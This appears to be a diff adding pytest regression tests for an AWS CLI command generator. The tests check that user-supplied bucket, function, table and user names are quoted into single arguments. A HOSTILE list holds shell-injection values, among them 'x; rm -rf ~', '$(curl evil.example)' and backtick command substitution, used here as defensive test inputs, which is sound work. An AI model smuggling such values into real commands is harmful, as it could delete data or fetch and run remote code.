@@ -0,0 +1,77 @@
+"""Pre-parsed command templates: quoting, argv output and entity regressions."""
+from pathlib import Path
+import shlex
+import sys
+import pytest
+
+ROOT = Path(__file__).resolve().parents[1]
+sys.path.insert(0, str(ROOT))
+
+from aws_cli_assistant.core.aws_parsers.command_template import CommandTemplate, command_template
+from aws_cli_assistant.core.command_generator import command_argv, generate_command
+
+HOSTILE = [
+    "my bucket",
+    "x; rm -rf ~",
+    "$(curl evil.example)",
+    "`id`",
+    "a'b\"c",
+    "new\nline",
+    "*",
+    "fn && echo pwned",
+    "{region}",
+]
+
+
+@pytest.mark.parametrize("value", HOSTILE)
+@pytest.mark.parametrize("intent,key,flag", [
+    ("create_s3_bucket", "bucket", "--bucket"),
+    ("invoke_lambda", "function", "--function-name"),
+    ("create_dynamodb_table", "table", "--table-name"),
+    ("create_iam_user", "user_name", "--user-name"),
+])
+def test_hostile_value_stays_one_argument(intent, key, flag, value):
+    command, _ = generate_command(intent, {key: value})
+    argv = command_argv(intent, {key: value})
+    assert argv[argv.index(flag) + 1] == value
+    # the shell string parses back to exactly the argv list
+    assert shlex.split(command) == argv
+
+
+def test_safe_values_render_unquoted():
+    command, _ = generate_command("create_s3_bucket", {"bucket": "phase3-test-bucket", "region": "us-west-1"})
+    assert command == "aws s3api create-bucket --bucket phase3-test-bucket --region us-west-1"
+    assert command_argv("create_s3_bucket", {"bucket": "phase3-test-bucket", "region": "us-west-1"}) == [
+        "aws", "s3api", "create-bucket", "--bucket", "phase3-test-bucket",
+        "--region", "us-west-1"]
+
+
+def test_mixed_token_quoted_as_a_whole():
+    entities = {"bucket": "b1", "file_name": "my report.pdf"}
+    command, _ = generate_command("download_s3_file", entities)
+    assert command_argv("download_s3_file", entities) == ["aws", "s3", "cp", "s3://b1/my report.pdf", "."]
+    assert command == "aws s3 cp 's3://b1/my report.pdf' ."
+
+
+def test_template_parsed_once():
+    t = CommandTemplate("aws s3 cp {file_name} s3://{bucket}/")
+    assert t.fields == ("file_name", "bucket")
+    assert command_template(t.text) is command_template(t.text)
+    assert t.argv({"file_name": "a", "bucket": "b"}) == ["aws", "s3", "cp", "a", "s3://b/"]
+    with pytest.raises(ValueError):
+        CommandTemplate("aws s3 ls {bucket!r}")
+
+
+def test_non_template_builder_has_no_argv():
+    assert command_argv("no_such_intent", {}) is None
+
+
+def test_iam_user_key_accepted():
+    # the rule engine extracts the IAM user under "user"
+    command, _ = generate_command("create_iam_user", {"user": "alice"})
+    assert command == "aws iam create-user --user-name alice"
+
+
+def test_missing_region_uses_default():
+    command, _ = generate_command("create_s3_bucket", {"bucket": "b1", "region": None})
+    assert command.endswith("--region us-east-1")